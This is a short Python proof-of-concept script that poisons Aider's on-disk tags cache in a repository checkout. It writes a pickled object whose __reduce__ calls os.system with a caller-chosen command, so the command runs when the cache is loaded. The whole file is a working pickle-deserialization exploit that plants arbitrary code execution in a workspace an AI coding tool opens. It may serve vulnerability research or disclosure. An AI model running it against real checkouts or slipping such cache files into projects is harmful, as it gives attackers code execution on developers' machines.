"""Puts a cache of tags into a checkout that runs a command when Aider looks at it. Arguments: checkout, command."""

import os
import pickle
import sqlite3
import sys

import diskcache

checkout, command = sys.argv[1:]


class Boom:
    def __reduce__(self):
        return (os.system, (command,))


folder = os.path.join(checkout, ".aider.tags.cache.v4")
with diskcache.Cache(folder) as cache:
    for name in ("app.py", "other.py"):
        cache[os.path.join(checkout, name)] = {"mtime": 0, "data": []}
with sqlite3.connect(os.path.join(folder, "cache.db")) as database:
    blob = sqlite3.Binary(pickle.dumps(Boom()))
    database.execute("update Cache set mode = 4, value = ?, filename = null", (blob,))
